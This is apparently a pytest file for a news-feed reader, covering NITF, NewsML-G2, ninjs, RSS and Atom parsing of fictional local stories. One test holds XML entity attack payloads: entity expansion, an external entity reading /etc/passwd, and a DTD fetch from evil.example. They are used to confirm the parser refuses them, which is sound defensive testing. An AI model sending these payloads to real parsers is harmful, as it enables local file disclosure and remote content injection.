"""The news industry's own formats and feeds, from standard samples, value by value."""

from __future__ import annotations

import datetime
from pathlib import Path

import pytest

from index.readers import read_articles
from index.types import Article, Skipped, SpanKind

FILES = Path(__file__).parent / "files"


def items(name: str) -> list[Article | Skipped]:
    return list(read_articles([FILES / name]))


def articles(name: str) -> list[Article]:
    return [item for item in items(name) if isinstance(item, Article)]


def fields(found: Article) -> tuple[object, ...]:
    return found.id, found.title, found.source, found.author, found.url, found.published


def refusal(folder: Path, content: str | bytes, name: str = "a.xml") -> str:
    raw = content.encode() if isinstance(content, str) else content
    (folder / name).write_bytes(raw)
    (told,) = read_articles([folder])
    assert isinstance(told, Skipped)
    assert told.is_fault
    return told.reason


def test_nitf() -> None:
    (found,) = articles("council.nitf.xml")
    assert fields(found) == (
        "ow-20220317-0042",
        "Ellery council votes to relight the harbour",
        "Orrin Wire",
        "Carmen Ildefonso",
        "https://orrinwire.example/harbour-lights",
        datetime.date(2022, 3, 17),
    )
    lines = found.text.split("\n\n")
    assert lines[7:] == [
        (
            "Councillors in Ellery voted nine to six on Thursday to put 84 lamps back on the"
            " harbour wall, five years after the last of them was switched off."
        ),
        "Café owners pleased",
        "The work will cost £96,000 and is to be finished before the regatta on July 2.",
        "For 9",
        "Against 6",
        "Reporting by Carmen Ildefonso",
    ]
    marked = [(span.kind, found.text[span.start : span.end]) for span in found.spans]
    assert marked == [
        (SpanKind.HEADLINE, "Ellery council votes to relight the harbour"),
        (SpanKind.BYLINE, "By Carmen Ildefonso"),
        (SpanKind.BYLINE, "Council reporter"),
        (SpanKind.BYLINE, "Orrin Wire Service"),
        (SpanKind.BYLINE, "ELLERY, March 17"),
        (SpanKind.CAPTION, "The east pier in the dark on Wednesday night."),
        (SpanKind.BYLINE, "Reporting by Carmen Ildefonso"),
    ]


@pytest.mark.parametrize(
    "stated", ["20220317T233000-0500", "20220317", "2022-03-17T23:30:00-05:00"]
)
def test_a_nitf_date_is_the_day_in_the_zone_that_it_states(tmp_path: Path, stated: str) -> None:
    sample = (FILES / "council.nitf.xml").read_text(encoding="utf-8")
    (tmp_path / "a.xml").write_text(sample.replace("20220317T190000Z", stated), encoding="utf-8")
    (found,) = read_articles([tmp_path])
    assert isinstance(found, Article)
    assert found.published == datetime.date(2022, 3, 17)


def test_newsml_g2_gives_its_texts_and_leaves_pictures_out() -> None:
    quarry, weather = articles("quarry.newsml.xml")
    assert fields(quarry) == (
        "urn:newsml:orrinwire.example:20210908:quarry-1",
        "Last slate quarry on Saint Orrin closes",
        "Orrin Wire",
        "Samir Oduya and Lena Voss",
        "https://orrinwire.example/quarry-closes",
        datetime.date(2021, 9, 8),  # first created, not the third version
    )
    assert quarry.text.split("\n\n")[1] == (
        "“There is slate for another century, but nobody who buys it,” said its manager, Hal"
        " Brekke."
    )
    assert fields(weather)[1:] == (
        "Gale warning for the sound",
        "Orrin Wire",
        None,
        None,
        datetime.date(2021, 9, 8),
    )
    assert weather.text == "A gale warning is in force for Orrin Sound until Thursday noon."


def test_ninjs() -> None:
    (found,) = articles("bakery.ninjs.json")
    uri = "https://orrinwire.example/items/20220602-bakery"
    assert fields(found) == (
        uri,
        "Ellery bakers strike over night shifts",
        "Orrin Wire",
        "Carmen Ildefonso",
        uri,
        datetime.date(2022, 6, 2),
    )
    assert found.text == (
        "Bakers in Ellery put down their peels on Thursday over a plan to start the night shift at"
        " 11 p.m.\n\nSome 46 of them stood outside the mill at dawn."
    )


def test_ninjs_3() -> None:
    (found,) = articles("regatta.ninjs3.json")
    assert fields(found) == (
        "tag:orrinwire.example,2023:regatta",
        "Fog stops the Ellery regatta",
        "Orrin Wire",
        "Lena Voss",
        None,
        datetime.date(2023, 7, 2),
    )
    assert found.text.startswith("Fog so thick that the marks could not be seen")


def test_rss_gives_the_whole_content_where_it_carries_it() -> None:
    otters, bridge, empty = items("courier.rss.xml")
    assert isinstance(otters, Article)
    assert isinstance(bridge, Article)
    assert isinstance(empty, Skipped)
    assert fields(otters) == (
        "vale-2024-0077",
        "Otters return to the Ellery mill race & stay",
        "The Vale Courier",
        "Ingrid Halloran",
        "https://www.valecourier.example/2024/02/otters",
        datetime.date(2024, 2, 28),
    )
    assert otters.text == (
        "An otter below the wheel. Photo: P. Lund\n\n"
        "Two otters have moved into the mill race at Ellery, the first to be seen there since"
        " 1974.\n\n“They sleep under the wheel,” said the miller, Ada Finch."
    )
    (span,) = otters.spans
    assert (span.kind, span.end) == (SpanKind.CAPTION, 40)
    link = "https://www.valecourier.example/2024/03/bridge"
    assert fields(bridge) == (
        link,
        "Bridge shut for a week",
        "The Vale Courier",
        "Tomas Reyes",
        link,
        datetime.date(2024, 3, 1),
    )
    assert bridge.text == "The Mill Bridge will be shut for a week from Monday."
    assert (empty.place, empty.is_fault) == ("item 3", False)


def test_atom_s_day_of_change_is_not_its_day_of_publication() -> None:
    rowing, undated = articles("courier.atom.xml")
    assert fields(rowing) == (
        "tag:valecourier.example,2024:rowing",
        "Ellery eight win by a canvas — again",
        "The Vale Courier: Sport",
        "Lena Voss",
        "https://www.valecourier.example/2024/04/rowing",
        datetime.date(2024, 4, 20),
    )
    assert rowing.text == (
        "The Ellery eight beat Saint Orrin by a canvas on Saturday.\n\n"
        "It was their fourth win in a row."
    )
    assert undated.published is None


@pytest.mark.parametrize(
    "attack",
    [
        '<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">',
        '<!ENTITY b SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;',
    ],
)
def test_entities_are_refused_and_never_expanded(tmp_path: Path, attack: str) -> None:
    feed = f"<!DOCTYPE rss [{attack}]><rss><channel><item><title>&b;</title></item></channel></rss>"
    declared = f'<?xml version="1.0"?>{feed}'
    assert refusal(tmp_path, declared) == (
        "it declares entities, which are never expanded; take them out"
    )
    assert "declares entities" in refusal(tmp_path, declared.encode("utf-16"))


def test_an_external_dtd_is_never_fetched(tmp_path: Path) -> None:
    (tmp_path / "a.dtd").write_text('<!ENTITY b "secret">')
    (tmp_path / "a.xml").write_text(
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{tmp_path}/a.dtd">'
        "<rss><channel><item><title>T</title><description>Some words.</description></item>"
        "</channel></rss>"
    )
    (found,) = read_articles([tmp_path / "a.xml"])
    assert isinstance(found, Article)
    assert found.text == "Some words."


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("", "the file is empty"),
        ('<?xml version="1.0"?><svg/>', "its root is <svg>; XML that is read is NITF"),
        ('<?xml version="1.0"?><rss><channel/></rss>', "there is no article in its <rss>"),
        ('<?xml version="1.0"?><rss><channel><item>', "it is broken XML (Premature end"),
        ('<?xml version="1.0"?><nitf>' + "<p>" * 3000, "it is broken XML (Excessive depth"),
    ],
)
def test_bad_xml_is_told(tmp_path: Path, content: str, reason: str) -> None:
    assert reason in refusal(tmp_path, content)


def test_xml_is_read_in_the_encoding_it_declares(tmp_path: Path) -> None:
    feed = (
        '<?xml version="1.0" encoding="windows-1251"?><rss><channel><item>'
        "<title>Мост закрыт</title>"
        "<description>Мост через реку закрыт до марта, сообщили в городе.</description></item>"
        "</channel></rss>"
    )
    (tmp_path / "a.rss").write_bytes(feed.encode("windows-1251"))
    (found,) = read_articles([tmp_path])
    assert isinstance(found, Article)
    assert found.title == "Мост закрыт"


def test_rss_1_has_its_items_beside_the_channel(tmp_path: Path) -> None:
    (tmp_path / "a.xml").write_text(
        '<?xml version="1.0"?>'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<channel><title>The Courier</title></channel>"
        "<item><title>Bridge shut</title><link>https://c.example/1</link>"
        "<description>The bridge is shut.</description>"
        "<dc:creator>Jane Roe</dc:creator><dc:date>2003-01-30T10:00+00:00</dc:date></item>"
        "</rdf:RDF>"
    )
    (found,) = read_articles([tmp_path])
    assert isinstance(found, Article)
    assert fields(found) == (
        "https://c.example/1",
        "Bridge shut",
        "The Courier",
        "Jane Roe",
        "https://c.example/1",
        datetime.date(2003, 1, 30),
    )
